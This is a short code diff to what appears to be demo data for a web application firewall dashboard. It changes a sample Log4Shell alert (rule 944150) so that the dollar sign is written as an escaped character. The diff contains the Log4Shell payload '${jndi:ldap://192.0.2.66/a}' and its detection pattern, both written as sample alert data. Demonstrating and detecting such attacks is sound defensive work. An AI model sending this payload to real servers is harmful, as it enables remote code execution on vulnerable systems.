@@ -55,9 +55,9 @@ export const ATTACK_RULES: readonly DemoRule[] = [
     'waf',
     '944150',
     'Potential Remote Command Execution: Log4j / Log4shell',
-    'Matched "${jndi:" at REQUEST_HEADERS',
+    'Matched "\x24{jndi:" at REQUEST_HEADERS',
     'REQUEST_HEADERS:X-Api-Version',
-    '${jndi:ldap://192.0.2.66/a}',
+    '\x24{jndi:ldap://192.0.2.66/a}',
   ),
   rule(
     'waf',
